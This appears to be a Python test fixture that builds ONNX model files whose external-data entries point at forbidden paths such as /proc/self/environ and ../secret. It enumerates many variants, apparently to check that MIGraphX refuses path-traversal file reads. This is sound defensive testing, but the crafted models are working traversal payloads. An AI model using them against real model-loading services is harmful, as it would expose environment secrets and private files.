"""Models whose external data would make a program read a file that it must not read."""

from __future__ import annotations

from collections.abc import Iterator

import onnx
from onnx import helper

TARGETS = ("/proc/self/environ", "/etc/hostname", "../secret", "sub/../../secret")


def model(*entries: tuple[str, str], flag: bool = True, nested: bool = False) -> bytes:
    """An ONNX file with one tensor and these entries of `external_data`.

    `flag`: `data_location` is EXTERNAL. `nested`: the tensor is a constant in a subgraph instead of an initializer.
    """
    weight = onnx.TensorProto(name="w", data_type=onnx.TensorProto.UINT8, dims=[16])
    for key, value in entries:
        weight.external_data.add(key=key, value=value)
    if flag:
        weight.data_location = onnx.TensorProto.EXTERNAL
    elif entries:
        weight.raw_data = bytes(16)
    ends = [helper.make_tensor_value_info(name, onnx.TensorProto.UINT8, [16]) for name in ("x", "y")]
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", ends[:1], ends[1:])
    if nested:
        inner = helper.make_graph([], "inner", [], [], initializer=[weight])
        node = onnx.NodeProto(op_type="If", input=["c"], output=["z"])
        node.attribute.append(onnx.AttributeProto(name="then_branch", type=onnx.AttributeProto.GRAPH, g=inner))
        graph.node.append(node)
    else:
        graph.initializer.append(weight)
    return helper.make_model(graph).SerializeToString()


def attacks(*, targets: tuple[str, ...] = TARGETS) -> Iterator[tuple[str, bytes]]:
    """The name and the bytes of models that MIGraphX would read `targets` for, in every way that was found."""
    for target in targets:
        for flag in (True, False):
            for nested in (False, True):
                where = f"{target}, {'with' if flag else 'without'} the flag, {'nested' if nested else 'initializer'}"
                yield f"location {where}", model(("location", target), flag=flag, nested=nested)
                yield f"another key {where}", model(("checksum", target), flag=flag, nested=nested)
                yield (
                    f"before the location {where}",
                    model(("note", target), ("location", "w.bin"), flag=flag, nested=nested),
                )
                yield (
                    f"twice {where}",
                    model(("location", target), ("location", "w.bin"), flag=flag, nested=nested),
                )
